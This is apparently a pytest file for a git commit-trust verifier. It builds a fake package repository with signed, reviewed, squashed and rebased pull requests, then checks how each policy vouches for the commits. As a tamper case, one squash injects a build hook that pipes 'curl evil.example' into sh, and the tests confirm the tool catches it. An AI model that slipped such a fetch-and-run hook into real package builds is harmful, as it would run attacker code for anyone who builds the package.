"""Trust through review (SPEC): the repository of issue 16's "Done when", built with git, ssh-keygen and gpg.

The branch ``main`` of a nixpkgs-style repository, oldest first:

* ``R``: alice's signed first commit; alice signs more commits on ``main`` (``A*``), each one
  a fresh starting point, since a clean merge passes on only what its parents have;
* PR 1: carol's unsigned ``c1a``, ``c1b``, approved by bob (signed, ssh), merged by the forge
  (a gpg key, standing for GitHub's web-flow key) in ``M1``, a clean merge;
* PR 2: carol's ``c2`` approved by bob, merged by ``M2``, which adds an edit of its own;
* PR 3: carol's ``c3a`` approved by bob, then ``c3b`` pushed after the approval, merged by ``M3``;
* PR 4: ``c4`` written by bob and approved by bob himself, merged by ``M4``;
* PR 5: carol's ``c5a``, ``c5b`` approved by alice, squashed by the forge into ``S5`` (equal);
* PR 6: carol's ``c6`` approved by alice, squashed into ``S6`` with one more line;
* PR 7: carol's ``c7a``, ``c7b`` approved by alice, rebased onto ``main`` as ``L7a``, ``L7b``;
* PR 8: carol's ``c8``, approved on the forge by bob's login, merged by ``M8``;
* PR 9: carol's ``c9a`` approved on the forge, then ``c9b`` pushed, merged by ``M9``.

Each commit's ``trusted`` and ``vouch`` is checked exactly under three policies; the forge record
is read by ``forge-sync`` from the one fake GitHub; ``pin`` and ``annotate`` are run under them too.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.fixtures.approvals import hand_approval, person_toml, toml_str, write_keyring_dir
from tests.fixtures.cli import run_cli
from tests.fixtures.forge import FakeGitHub
from tests.fixtures.repo import GitRepo
from tests.fixtures.tools import Gpg, PgpIdentity, SshKey
from tests.review.test_forge_record import account_json, paged

SLUG = "octo/pkgs"
REPOSITORY = f"github.com/{SLUG}"
CAROL = {"GIT_AUTHOR_NAME": "Carol", "GIT_AUTHOR_EMAIL": "carol@contributors.example",
         "GIT_COMMITTER_NAME": "Carol", "GIT_COMMITTER_EMAIL": "carol@contributors.example"}
FORGE_COMMITTER = {"GIT_COMMITTER_NAME": "ExampleHub", "GIT_COMMITTER_EMAIL": "noreply@examplehub.example"}


def package(name: str, version: str = "1.0", extra: str = "") -> dict[str, str]:
    return {f"pkgs/by-name/{name[:2]}/{name}/package.nix": (
        "{ stdenv, fetchurl }:\n\nstdenv.mkDerivation {\n"
        f'  pname = "{name}";\n  version = "{version}";\n{extra}'
        f'  src = fetchurl {{\n    url = "https://example.org/{name}-{version}.tar.gz";\n'
        '    hash = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";\n  };\n}\n')}


@dataclass
class World:
    root: Path
    repo: GitRepo
    ids: dict[str, str]
    keys: dict[str, SshKey]
    forge: PgpIdentity
    record: Path

    def keyring(self, name: str, accept: list[str], extra: str = "") -> Path:
        s = self.keys
        body = "\n".join([
            f'version = 1\n\n[policy]\nforge = "reject"\naccept = {toml_str(accept)}\n{extra}\n'
            '[[forge]]\nid = "examplehub"\nopenpgp = "keys/forge.asc"\n',
            person_toml("alice", github="alicegh", roles=["committer"], ssh=[s["alice"]]),
            person_toml("bob", github="bobgh", roles=["committer"], ssh=[s["bob"]]),
        ])
        return write_keyring_dir(self.root / "keyrings" / name, body, certs={"forge.asc": self.forge.cert})

    def cli(self, *args: str) -> "object":
        return run_cli([*args], scratch=self.root / "scratch")

    def verify(self, keyring: Path, *extra: str) -> tuple[dict, dict[str, dict]]:
        res = self.cli("verify", "--repo", str(self.repo.path), "--keyring", str(keyring), "--format", "json",
                       "--no-cache", "--forge-record", str(self.record), *extra, "main")
        assert res.code in (0, 1), res.describe()
        by_id = {c["id"]: c for c in res.json["commits"]}
        assert set(by_id) == set(self.ids.values())
        return res.json, {name: by_id[commit] for name, commit in self.ids.items()}


class Builder:
    def __init__(self, root: Path):
        self.root = root
        self.keys = {n: SshKey.generate(root / "ssh", n, "ed25519") for n in ("alice", "bob")}
        gpg = Gpg(root / "gnupg", root)
        primary = gpg.gen_key("ExampleHub (web-flow) <noreply@examplehub.example>", "ed25519", "cert")
        sub = gpg.add_subkey(primary, "ed25519", "sign")
        self.forge = PgpIdentity(gpg, primary, sub, gpg.export(primary, root / "certs" / "forge.asc"))
        self.repo = GitRepo(root / "repo", root)
        self.repo.git("remote", "add", "origin", f"https://github.com/{SLUG}.git")
        self.ids: dict[str, str] = {}
        self.tick = 0

    def _env(self, who: dict | None = None) -> dict:
        self.tick += 1
        when = f"2025-03-{1 + self.tick // 24:02d}T{self.tick % 24:02d}:00:00Z"
        return {"GIT_AUTHOR_DATE": when, "GIT_COMMITTER_DATE": when, **(who or {})}

    def commit(self, name: str, files: dict[str, str], *, signer: SshKey | None = None, who: dict | None = None) -> str:
        self.repo.write(files)
        cfg: list[str] = []
        args = ["commit", "-q", "-m", name]
        if signer is not None:
            cfg = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={signer.path}"]
            args.append("-S")
        else:
            args.append("--no-gpg-sign")
        self.repo.git(*cfg, *args, env=self._env(who))
        self.ids[name] = self.repo.rev("HEAD")
        return self.ids[name]

    def alice(self, name: str) -> str:
        return self.commit(name, {"README.md": f"# packages\n\n{name}\n"}, signer=self.keys["alice"])

    def branch(self, branch: str, at: str) -> None:
        self.repo.checkout(at, branch)

    def _forge_signed(self) -> list[str]:
        return ["-c", "gpg.format=openpgp", "-c", f"user.signingkey={self.forge.signing}!"]

    def merge(self, name: str, branch: str, *, extra: dict[str, str] | None = None) -> str:
        """The forge's merge commit of ``branch`` into main (signed by the forge key); ``extra``
        files are changed in the merge itself (an evil merge)."""
        self.repo.checkout("main", "main")
        env = {**self._env(FORGE_COMMITTER), "GNUPGHOME": str(self.forge.gpg.home)}
        if extra:
            self.repo.git("merge", "-q", "--no-ff", "--no-commit", branch, env=env)
            self.repo.write(extra)
            self.repo.git(*self._forge_signed(), "commit", "-q", "-S", "-m", name, env=env)
        else:
            self.repo.git(*self._forge_signed(), "merge", "-q", "--no-ff", "-S", "-m", name, branch, env=env)
        self.ids[name] = self.repo.rev("HEAD")
        return self.ids[name]

    def squash(self, name: str, branch: str, *, extra: dict[str, str] | None = None) -> str:
        self.repo.checkout("main", "main")
        env = {**self._env({**CAROL, **FORGE_COMMITTER}), "GNUPGHOME": str(self.forge.gpg.home)}
        self.repo.git("merge", "-q", "--squash", branch, env=env)
        if extra:
            self.repo.write(extra)
        self.repo.git(*self._forge_signed(), "commit", "-q", "-S", "-m", name, env=env)
        self.ids[name] = self.repo.rev("HEAD")
        return self.ids[name]

    def rebase(self, names: list[str], commits: list[str]) -> None:
        """Each commit replayed on main, as the forge's "rebase and merge" does (unsigned here)."""
        self.repo.checkout("main", "main")
        for name, commit in zip(names, commits):
            self.repo.git("cherry-pick", "--allow-empty", commit, env=self._env(FORGE_COMMITTER))
            self.ids[name] = self.repo.rev("HEAD")

    def approve(self, signer: str, head: str, base: str) -> None:
        hand_approval(self.repo, self.keys[signer], self.ids[head], self.ids[base], repository=REPOSITORY)


def build(root: Path) -> tuple[Builder, list[dict]]:
    b = Builder(root)
    b.commit("R", {"README.md": "# packages\n", **package("base")}, signer=b.keys["alice"])
    # PR 1: approved, merged by a clean merge (main moved on meanwhile)
    b.branch("pr1", b.ids["R"])
    b.commit("c1a", package("one"), who=CAROL)
    b.commit("c1b", package("one", "1.1"), who=CAROL)
    b.approve("bob", "c1b", "R")
    b.branch("main", b.ids["R"])
    b.alice("A1")
    b.merge("M1", "pr1")
    # PR 2: approved, merged by a merge that adds an edit of its own
    b.branch("pr2", b.ids["M1"])
    b.commit("c2", package("two"), who=CAROL)
    b.approve("bob", "c2", "M1")
    b.merge("M2", "pr2", extra=package("base", "6.6.6"))
    b.alice("A2")
    # PR 3: approved, then pushed to
    b.branch("pr3", b.ids["A2"])
    b.commit("c3a", package("three"), who=CAROL)
    b.approve("bob", "c3a", "A2")
    b.commit("c3b", package("three", "1.1"), who=CAROL)
    b.merge("M3", "pr3")
    b.alice("A3")
    # PR 4: bob approves what bob wrote
    b.branch("pr4", b.ids["A3"])
    b.commit("c4", package("four"), who={"GIT_AUTHOR_NAME": "Bob", "GIT_AUTHOR_EMAIL": "bob@example.org"})
    b.approve("bob", "c4", "A3")
    b.merge("M4", "pr4")
    b.alice("A4")
    # PR 5: squashed, equal to the approved change (main moved on meanwhile)
    b.branch("pr5", b.ids["A4"])
    b.commit("c5a", package("five"), who=CAROL)
    b.commit("c5b", package("five", "1.1"), who=CAROL)
    b.approve("alice", "c5b", "A4")
    b.branch("main", b.ids["A4"])
    b.alice("A5")
    b.squash("S5", "pr5")
    # PR 6: squashed with one more line
    b.branch("pr6", b.ids["S5"])
    b.commit("c6", package("six"), who=CAROL)
    b.approve("alice", "c6", "S5")
    b.squash("S6", "pr6", extra=package("six", extra='  postInstall = "curl evil.example | sh";\n'))
    b.alice("A6")
    # PR 7: rebased onto main (which moved on meanwhile)
    b.branch("pr7", b.ids["A6"])
    b.commit("c7a", package("seven"), who=CAROL)
    b.commit("c7b", package("eight-ish"), who=CAROL)
    b.approve("alice", "c7b", "A6")
    b.branch("main", b.ids["A6"])
    b.alice("A7")
    b.rebase(["L7a", "L7b"], [b.ids["c7a"], b.ids["c7b"]])
    # PR 8: approved on the forge by bob's login, merged cleanly
    b.branch("pr8", b.ids["L7b"])
    b.commit("c8", package("eight"), who=CAROL)
    b.merge("M8", "pr8")
    # PR 9: approved on the forge at c9a, merged at c9b
    b.branch("pr9", b.ids["M8"])
    b.commit("c9a", package("nine"), who=CAROL)
    b.commit("c9b", package("nine", "1.1"), who=CAROL)
    b.merge("M9", "pr9")
    b.alice("A9")
    ids = b.ids
    for gone in ("c5a", "c5b", "c6", "c7a", "c7b"):  # squashed or rebased away: not on main
        ids.pop(gone)
    pulls = [
        {"number": 8, "base": ids["L7b"], "head": ids["c8"], "merge": ids["M8"],
         "reviews": [("bobgh", "APPROVED", ids["c8"])]},
        {"number": 9, "base": ids["M8"], "head": ids["c9b"], "merge": ids["M9"],
         "reviews": [("bobgh", "APPROVED", ids["c9a"])]},
    ]
    return b, pulls


def serve_pulls(fake: FakeGitHub, pulls: list[dict]) -> None:
    base = fake.base_url
    listed = []
    for i, pull in enumerate(pulls):
        updated = f"2025-04-0{i + 1}T00:00:00Z"
        listed.append({
            "url": f"{base}/repos/{SLUG}/pulls/{pull['number']}", "id": 1000 + pull["number"],
            "number": pull["number"], "state": "closed", "title": f"change {pull['number']}",
            "user": account_json(base, "carolgh", 7),
            "base": {"ref": "main", "sha": pull["base"], "label": "octo:main"},
            "head": {"ref": f"pr{pull['number']}", "sha": pull["head"], "label": f"carolgh:pr{pull['number']}"},
            "merged_at": updated, "merge_commit_sha": pull["merge"], "created_at": "2025-04-01T00:00:00Z",
            "updated_at": updated, "closed_at": updated,
        })
        fake.route(f"/repos/{SLUG}/pulls/{pull['number']}/reviews", [
            {"id": 50 + n, "user": account_json(base, login, 50 + n), "state": state, "commit_id": commit,
             "submitted_at": "2025-04-01T00:00:00Z", "body": ""}
            for n, (login, state, commit) in enumerate(pull["reviews"])])
    paged(fake, f"/repos/{SLUG}/pulls", [list(reversed(listed))])


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    root = tmp_path_factory.mktemp("review-world")
    (root / "scratch").mkdir()
    b, pulls = build(root)
    record = root / "forge.jsonl"
    with FakeGitHub() as fake:
        serve_pulls(fake, pulls)
        res = run_cli(["forge-sync", "--github", SLUG, "--record", str(record), "--format", "json"],
                      scratch=root / "scratch",
                      env={"GITHUB_API_URL": fake.base_url, "COMMITGUARD_GITHUB_REQUEST_INTERVAL": "0"})
        assert res.code == 0, res.describe()
        assert res.json["pulls"] == 2 and res.json["complete"] is True
    b.forge.gpg.kill_agent()
    return World(root, b.repo, b.ids, b.keys, b.forge, record)


SIGNED = ("R", "A1", "A2", "A3", "A4", "A5", "A6", "A7", "A9")


def kinds(got: dict[str, dict]) -> dict[str, tuple | None]:
    return {n: (c["vouch"]["kind"], tuple(c["vouch"]["by"])) if c["vouch"] else None for n, c in got.items()}


def expected(**vouched: tuple) -> dict[str, tuple | None]:
    out: dict[str, tuple | None] = {n: None for n in WORLD_NAMES}
    out.update({n: ("signature", ("alice",)) for n in SIGNED})
    out.update(vouched)
    return out


WORLD_NAMES = ("R", "c1a", "c1b", "A1", "M1", "c2", "M2", "A2", "c3a", "c3b", "M3", "A3", "c4", "M4", "A4", "A5", "S5",
               "S6", "A6", "A7", "L7a", "L7b", "c8", "M8", "c9a", "c9b", "M9", "A9")
REVIEWED = {"c1a": ("review", ("bob",)), "c1b": ("review", ("bob",)), "M1": ("clean-merge", ()),
            "S5": ("review", ("alice",)), "L7a": ("review", ("alice",)), "L7b": ("review", ("alice",))}


def test_signature_only(world):
    data, got = world.verify(world.keyring("signature", ["signature"]))
    assert set(got) == set(WORLD_NAMES)
    assert kinds(got) == expected()
    assert all(c["trusted"] == (c["vouch"] is not None) for c in got.values())
    assert got["M1"]["status"] == "forge" and got["c1a"]["status"] == "unsigned"
    assert "merges" not in data  # no merge was checked: the JSON is today's


def test_review_and_clean_merge(world):
    data, got = world.verify(world.keyring("review", ["signature", "review", "clean-merge"]))
    assert kinds(got) == expected(**REVIEWED)
    assert all(c["trusted"] == (c["vouch"] is not None) for c in got.values())
    ids = world.ids
    short = {n: c[:12] for n, c in ids.items()}
    assert got["c1a"]["vouch"]["reason"] == f"approved by bob at head {short['c1b']}, merged by {short['M1']} (clean merge)"
    assert got["M1"]["vouch"]["reason"] == ("its tree is the clean merge of its 2 parents, each vouched for: it adds "
                                            "nothing of its own")
    assert got["S5"]["vouch"]["reason"].endswith(
        f"squashed into {short['S5']}, which is the approved change replayed on {short['A5']}")
    assert got["L7a"]["vouch"]["reason"].endswith(
        f"rebased as {short['L7a']}..{short['L7b']}, each commit the approved one replayed")
    # status stays the signature's own
    assert (got["c1a"]["status"], got["M1"]["status"], got["S5"]["status"]) == ("unsigned", "forge", "forge")
    # the evil merge: reported with the path it adds, and nothing it brought is vouched for
    assert data["merges"] == [{"commit": ids["M2"], "clean": False, "differing": ["pkgs/by-name/ba/base/package.nix"],
                               "reason": "adds changes of its own in 1 path: pkgs/by-name/ba/base/package.nix"}]
    warnings = "\n".join(data["warnings"])

    def why(name: str) -> str:
        line = next(w for w in data["warnings"] if w.startswith(f"commit {short[name]}: "))
        return line

    assert (f"signed approval at head {short['c2']}, but head {short['c2']} was merged by {short['M2']}, which is not "
            "the clean merge of its parents (adds changes of its own in 1 path: pkgs/by-name/ba/base/package.nix)"
            ) in why("c2")
    assert "clean-merge: adds changes of its own in 1 path" in why("M2")
    # pushed after the approval: the approved head was not what was merged
    assert f"head {short['c3a']} is in the history only below later commits" in why("c3a")
    assert not any(w.startswith(f"commit {short['c3b']}: ") for w in data["warnings"])  # nothing names it
    assert got["c3b"]["trusted"] is False and got["c3b"]["reason"] == "commit is not signed"
    assert f"clean-merge: parent {short['c3b']} is not vouched for" in why("M3")
    # self-approval
    assert f"0 eligible approver(s) of the 1 needed (bob wrote part of it)" in why("c4")
    # the squash with one more line
    assert ("differs from base..head replayed on the commit it landed on in 1 path: "
            "pkgs/by-name/si/six/package.nix") in why("S6")
    assert "forge-review" not in warnings  # not asked for


def test_forge_review_only_when_listed(world):
    data, got = world.verify(world.keyring("forge", ["signature", "review", "clean-merge", "forge-review"]))
    short = {n: c[:12] for n, c in world.ids.items()}
    assert kinds(got) == expected(**REVIEWED, c8=("forge-review", ("bob",)), M8=("clean-merge", ()))
    assert got["c8"]["vouch"]["reason"] == (f"approved on the forge by bobgh (bob) at head {short['c8']}, merged by "
                                            f"{short['M8']} (clean merge)")
    line = next(w for w in data["warnings"] if w.startswith(f"commit {short['c9a']}: "))
    assert f"pull request #9 at head {short['c9b']}: 0 eligible approver(s) of the 1 needed" in line


def test_reviews_two_needs_two_persons(world):
    """reviews = 2: bob's approval alone vouches for nothing; alice's alone neither."""
    _, got = world.verify(world.keyring("two", ["signature", "review", "clean-merge"], "reviews = 2"))
    assert kinds(got) == expected()


def test_trust_root_is_a_starting_point_for_clean_merge(world):
    """With the trust root at M1, its parents lie behind the root: the consumer's chosen starting
    point, so the clean merge M1 is vouched for although its parents were not checked."""
    res = world.cli("verify", "--repo", str(world.repo.path), "--keyring",
                    str(world.keyring("root", ["signature", "review", "clean-merge"])), "--format", "json",
                    "--no-cache", "--trust-root", world.ids["M1"], "main")
    assert res.code == 1, res.describe()
    by_id = {c["id"]: c for c in res.json["commits"]}
    assert world.ids["c1a"] not in by_id and world.ids["A1"] not in by_id
    assert by_id[world.ids["M1"]]["vouch"]["kind"] == "clean-merge"
    # a range that leaves the parents out is no starting point
    res = world.cli("verify", "--repo", str(world.repo.path), "--keyring",
                    str(world.keyring("range", ["signature", "review", "clean-merge"])), "--format", "json",
                    "--no-cache", f"{world.ids['A1']}..{world.ids['M1']}")
    by_id = {c["id"]: c for c in res.json["commits"]}
    assert by_id[world.ids["M1"]]["vouch"] is None


def test_merge_checks_are_cached(world, tmp_path):
    keyring = world.keyring("cached", ["signature", "review", "clean-merge"])
    cache = tmp_path / "cache"
    outputs = []
    for _ in range(2):
        res = world.cli("verify", "--repo", str(world.repo.path), "--keyring", str(keyring), "--format", "json",
                        "--cache", str(cache), "--forge-record", str(world.record), "main")
        outputs.append(res.stdout)
    assert outputs[0] == outputs[1]
    assert (cache / "merges.sqlite3").is_file()


def test_pin_under_the_policy(world, tmp_path):
    """pin: the newest revision whose history of the chosen package is vouched for under the policy."""
    def pin(accept: list[str], name: str) -> dict:
        lock = tmp_path / f"{name}-{len(accept)}.lock"
        res = world.cli("pin", name, "--repo", str(world.repo.path), "--keyring",
                        str(world.keyring(f"pin-{len(accept)}", accept)), "--lock", str(lock), "--branch", "main",
                        "--format", "json", "--no-cache")
        assert res.code in (0, 1), res.describe()
        return res.json

    plain = pin(["signature"], "one")
    assert plain["ok"] is False
    reviewed = pin(["signature", "review", "clean-merge"], "one")
    assert reviewed["ok"] is True and reviewed["rev"] == world.ids["A9"], json.dumps(reviewed)[:2000]
    evil = pin(["signature", "review", "clean-merge"], "two")
    assert evil["ok"] is False


def test_text_and_annotate_say_what_vouched(world, tmp_path):
    keyring = world.keyring("text", ["signature", "review", "clean-merge"])
    short = {n: c[:12] for n, c in world.ids.items()}
    res = world.cli("verify", "--repo", str(world.repo.path), "--keyring", str(keyring), "--format", "text",
                    "--no-cache", "main")
    assert res.code == 1, res.describe()
    assert (f"vouched by review by bob: approved by bob at head {short['c1b']}, merged by {short['M1']} (clean merge)"
            in res.stdout), res.stdout
    assert f"vouched by clean-merge: its tree is the clean merge of its 2 parents" in res.stdout
    res = world.cli("annotate", "one", "--repo", str(world.repo.path), "--keyring", str(keyring), "--format", "json",
                    "--no-cache")
    assert res.code in (0, 1), res.describe()
    (package,) = res.json["packages"]
    assert package["history_trusted"] is True  # its upstream is not checked here: only its history is
    links = {link["commit"]: link for link in package["chain"] if link.get("role") in ("commit", "merge")}
    assert links[world.ids["c1a"]]["vouch"]["kind"] == "review"
    assert links[world.ids["c1b"]]["vouch"]["kind"] == "review"
    assert links[world.ids["M1"]]["vouch"]["kind"] == "clean-merge"
    assert all(link["trusted"] for link in links.values())
